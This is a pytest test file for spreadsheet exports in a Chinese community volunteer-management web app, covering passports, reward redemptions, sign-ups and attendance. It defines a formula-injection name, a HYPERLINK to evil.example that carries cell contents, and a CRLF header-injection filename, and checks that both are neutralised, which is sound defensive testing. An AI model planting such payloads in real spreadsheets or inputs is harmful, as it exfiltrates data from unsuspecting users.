""".xlsx exports of the office's lists: sign-ups and attendance of an event, passports,
redemptions. Each file is opened as a user would, with openpyxl."""

from __future__ import annotations

import io
from datetime import timedelta
from functools import partial
from urllib.parse import unquote

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from saas.auth.models import User
from saas.db import utcnow
from saas.streets.models import Tenant
from saas.xlsx import MIMETYPE
from tenants.events.models import Attendance, Registration, RegistrationStatus
from tenants.passport.models import Redemption, RedemptionStatus, Reward
from tenants.passport.rewards import new_code
from tenants.passport.services import passport_for
from tests.conftest import both_backends
from tests.tenants.factories import (
    add_community,
    make_event,
    signed_in,
)
from tests.test_query_counts import count_queries

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def sheet_rows(response) -> list[list]:
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    assert response.mimetype == MIMETYPE
    book = load_workbook(io.BytesIO(response.data))
    return [list(row) for row in book.active.iter_rows(values_only=True)]


def sheet_cells(response):
    book = load_workbook(io.BytesIO(response.data))
    return list(book.active.iter_rows())


def passport_of(scoped, street, user_id) -> int:
    with scoped(street) as session:
        user = session.scalar(select(User).where(User.id == user_id))
        passport = passport_for(session, user, session.get(Tenant, street.id))
        session.commit()
        return passport.id


@pytest.fixture
def people(street, community, make_user, scoped):
    """Two volunteers of 朝阳社区 (one with a formula for a name) and one of 东风社区."""
    other = add_community(scoped, street, "东风社区")
    made = {}
    for key, name, where in (
        ("zhang", "张三", community),
        ("hostile", HOSTILE, community),
        ("li", "李四", other),
    ):
        user_id, phone = make_user(street, "volunteer", name=name, community_id=where)
        made[key] = (user_id, phone, passport_of(scoped, street, user_id))
    return made


# --- passports ------------------------------------------------------------------------------


def test_passports_export_has_every_row_with_chinese_headers(admin, people):
    response = admin.get("/alpha/passports/export.xlsx")
    rows = sheet_rows(response)
    assert rows[0] == [
        "护照编号",
        "姓名",
        "党员",
        "社区",
        "积分",
        "累计时长（小时）",
        "今年时长（小时）",
    ]
    names = {row[1]: row for row in rows[1:]}
    assert set(names) == {"张三", HOSTILE, "李四"}
    assert names["李四"][3] == "东风社区" and names["张三"][4] == 0
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment;") and 'filename="' in disposition
    assert unquote(disposition.split("filename*=UTF-8''")[1]) == "志愿护照.xlsx"
    assert "no-store" in response.headers["Cache-Control"]


@both_backends
def test_a_hostile_name_stays_text(admin, people):
    cells = sheet_cells(admin.get("/alpha/passports/export.xlsx?q=HYPERLINK"))
    assert len(cells) == 2
    name = cells[1][1]
    assert name.value == HOSTILE and name.data_type == "s"


def test_passports_export_honours_the_search_and_a_malformed_one(admin, people):
    rows = sheet_rows(admin.get("/alpha/passports/export.xlsx?q=张"))
    assert [row[1] for row in rows[1:]] == ["张三"]
    # as on the page: LIKE's wildcards are dropped, an overlong search is cut, never a 500
    assert len(sheet_rows(admin.get("/alpha/passports/export.xlsx?q=%25"))) == 4
    assert len(sheet_rows(admin.get("/alpha/passports/export.xlsx?q=" + "x" * 500))) == 1


@both_backends
def test_community_staff_export_only_their_community(app, street, community, people, make_user):
    _id, phone = make_user(street, "staff", community_id=community)
    staff = signed_in(app, "alpha", phone)
    rows = sheet_rows(staff.get("/alpha/passports/export.xlsx"))
    assert {row[1] for row in rows[1:]} == {"张三", HOSTILE}


def test_volunteers_may_not_export(app, street, people):
    volunteer = signed_in(app, "alpha", people["zhang"][1])
    for url in ("/alpha/passports/export.xlsx", "/alpha/rewards/redemptions/export.xlsx"):
        assert volunteer.get(url).status_code in (403, 404)


def test_the_filter_form_sends_htmx_to_a_download(admin, people):
    response = admin.get("/alpha/passports/export.xlsx?q=张", headers={"HX-Request": "true"})
    assert response.status_code == 200 and not response.data
    assert unquote(response.headers["HX-Redirect"]) == "/alpha/passports/export.xlsx?q=张"


def test_list_pages_link_their_export(admin, people, scoped, street):
    assert "/alpha/passports/export.xlsx" in admin.get("/alpha/passports").get_data(as_text=True)
    page = admin.get("/alpha/rewards/redemptions").get_data(as_text=True)
    assert "/alpha/rewards/redemptions/export.xlsx" in page
    event_id = make_event(scoped, street)
    page = admin.get(f"/alpha/events/{event_id}").get_data(as_text=True)
    assert f"/alpha/events/{event_id}/signups.xlsx" in page
    assert f"/alpha/events/{event_id}/attendance.xlsx" in page


# --- redemptions ----------------------------------------------------------------------------


def redeem(scoped, street, passport_id, community_id, status=RedemptionStatus.issued, name="米"):
    with scoped(street) as session:
        reward = Reward(name=name, price=5, stock=5, community_id=community_id)
        session.add(reward)
        session.flush()
        session.add(
            Redemption(
                reward_id=reward.id,
                passport_id=passport_id,
                code=new_code(),
                points=5,
                status=status,
                verified_at=utcnow() if status == RedemptionStatus.verified else None,
            )
        )
        session.commit()


def test_an_empty_export_is_the_headers_alone(admin, street):
    rows = sheet_rows(admin.get("/alpha/rewards/redemptions/export.xlsx"))
    assert rows == [["状态", "奖品", "兑换人", "护照编号", "积分", "兑换时间", "领取或取消时间"]]


@both_backends
def test_redemptions_export_honours_the_status(admin, street, community, people, scoped):
    passport = people["zhang"][2]
    redeem(scoped, street, passport, community, name="大米")
    redeem(scoped, street, passport, community, RedemptionStatus.verified, name="食用油")
    rows = sheet_rows(admin.get("/alpha/rewards/redemptions/export.xlsx?status=verified"))
    assert [(r[0], r[1], r[2]) for r in rows[1:]] == [("已领取", "食用油", "张三")]
    # a real date in the street's time zone (Asia/Shanghai: UTC+8)
    handed = rows[1][6]
    assert abs(handed - (utcnow() + timedelta(hours=8)).replace(tzinfo=None)) < timedelta(minutes=5)
    # an unknown status is "all", as the page reads it
    assert len(sheet_rows(admin.get("/alpha/rewards/redemptions/export.xlsx?status=%3D1"))) == 3


# --- an event's sign-ups and attendance -----------------------------------------------------


def sign_up(scoped, street, event_id, user_ids, status=RegistrationStatus.registered):
    with scoped(street) as session:
        for position, user_id in enumerate(user_ids, start=1):
            session.add(
                Registration(
                    event_id=event_id,
                    user_id=user_id,
                    status=status,
                    waitlist_position=position if status == RegistrationStatus.waitlisted else None,
                )
            )
        session.commit()


def test_signups_export_masks_phones_for_staff_and_not_for_the_admin(
    app, admin, street, community, people, scoped, make_user
):
    event_id = make_event(scoped, street, community_id=community)
    zhang, phone = people["zhang"][0], people["zhang"][1]
    sign_up(scoped, street, event_id, [zhang])
    sign_up(scoped, street, event_id, [people["li"][0]], RegistrationStatus.waitlisted)
    rows = sheet_rows(admin.get(f"/alpha/events/{event_id}/signups.xlsx"))
    assert rows[0][:4] == ["状态", "候补顺位", "姓名", "手机号"]
    assert [(r[0], r[1], r[2], r[3]) for r in rows[1:]] == [
        ("已报名", None, "张三", phone),
        ("候补", 1, "李四", people["li"][1]),
    ]
    _id, staff_phone = make_user(street, "staff", community_id=community)
    staff = signed_in(app, "alpha", staff_phone)
    rows = sheet_rows(staff.get(f"/alpha/events/{event_id}/signups.xlsx"))
    assert rows[1][3] == f"{phone[:3]}****{phone[-4:]}"
    assert phone not in str(rows)


def test_attendance_export(admin, street, community, people, scoped):
    event_id = make_event(scoped, street, starts_at=utcnow() - timedelta(hours=4))
    with scoped(street) as session:
        session.add(
            Attendance(
                event_id=event_id,
                user_id=people["hostile"][0],
                checked_in_at=utcnow() - timedelta(hours=4),
                checked_out_at=utcnow() - timedelta(hours=1),
                hours=3,
            )
        )
        session.commit()
    response = admin.get(f"/alpha/events/{event_id}/attendance.xlsx")
    rows = sheet_rows(response)
    assert rows[0] == ["姓名", "手机号", "签到", "签退", "时长（小时）", "来源", "说明", "状态"]
    assert rows[1][0] == HOSTILE and rows[1][4] == 3 and rows[1][7] == "待确认"
    assert rows[1][3] - rows[1][2] == timedelta(hours=3)
    assert sheet_cells(response)[1][0].data_type == "s"
    name = unquote(response.headers["Content-Disposition"].split("''")[1])
    assert name == "社区清洁-签到与服务时长.xlsx"


@both_backends
def test_another_streets_event_is_not_found(app, street, make_street, scoped):
    event_id = make_event(scoped, street)
    beta = make_street("beta", name="乙街道")
    other = signed_in(app, "beta", beta.admin_phone)
    for kind in ("signups", "attendance"):
        assert other.get(f"/beta/events/{event_id}/{kind}.xlsx").status_code == 404


def test_community_staff_cannot_export_another_communitys_event(
    app, street, community, scoped, make_user
):
    elsewhere = add_community(scoped, street, "东风社区")
    event_id = make_event(scoped, street, community_id=elsewhere)
    _id, phone = make_user(street, "staff", community_id=community)
    staff = signed_in(app, "alpha", phone)
    assert staff.get(f"/alpha/events/{event_id}/signups.xlsx").status_code == 404


def assert_export_statements_do_not_grow(app, client, url, grow, more, most):
    """As ``assert_statements_do_not_grow``, for a file rather than a page."""
    grow(2)
    with count_queries(app) as small:
        assert len(sheet_rows(client.get(url))) > 2
    grow(more)
    with count_queries(app) as large:
        assert len(sheet_rows(client.get(url))) > more
    assert len(large) == len(small), "\n".join(large)
    assert len(large) <= most, "\n".join(large)


def _grow_signups(scoped, street, event_id, make_user, n):
    users = [make_user(street, "volunteer")[0] for _ in range(n)]
    sign_up(scoped, street, event_id, users)


@both_backends
def test_statements_per_export_do_not_grow(app, admin, street, scoped, make_user, people):
    event_id = make_event(scoped, street, capacity=100)
    grow = partial(_grow_signups, scoped, street, event_id, make_user)
    assert_export_statements_do_not_grow(
        app, admin, f"/alpha/events/{event_id}/signups.xlsx", grow, more=12, most=12
    )
    passport = people["zhang"][2]
    assert_export_statements_do_not_grow(
        app,
        admin,
        "/alpha/rewards/redemptions/export.xlsx",
        lambda n: [redeem(scoped, street, passport, None) for _ in range(n)],
        more=12,
        most=12,
    )


# --- the shared helper ----------------------------------------------------------------------


def test_a_cut_export_says_so_in_its_last_row(app):
    from saas.xlsx import workbook_response

    with app.test_request_context():
        response = workbook_response("名单.xlsx", ["姓名"], [("甲",), ("乙",)], total=30_000)
    rows = sheet_rows(response)
    assert rows[:3] == [["姓名"], ["甲"], ["乙"]]
    assert "共 30000 行" in rows[-1][0] and len(rows) == 4


def test_a_title_cannot_break_the_download_header(app):
    from saas.xlsx import workbook_response

    with app.test_request_context():
        response = workbook_response('a/b"\r\nX-Evil: 1;活动.xlsx', ["姓名"], [])
    disposition = response.headers["Content-Disposition"]
    assert "\n" not in disposition and "X-Evil: 1" not in disposition.split(";")[1]
    ascii_name = disposition.split('filename="')[1].split('"')[0]
    assert ascii_name.isascii() and "/" not in ascii_name
    assert unquote(disposition.split("''")[1]) == "a_b_X-Evil_ 1;活动.xlsx"


def test_a_lazy_label_in_a_cell_is_written_as_its_text(app):
    """Labels declared with lazy_gettext (a kind, a status) land in cells as text, not a 500."""
    from flask_babel import lazy_gettext

    from saas.xlsx import workbook_response

    with app.test_request_context("/"):
        response = workbook_response("x.xlsx", [lazy_gettext("状态")], [[lazy_gettext("已领取")]])
    rows = list(load_workbook(io.BytesIO(response.data)).active.values)
    assert rows == [("状态",), ("已领取",)]
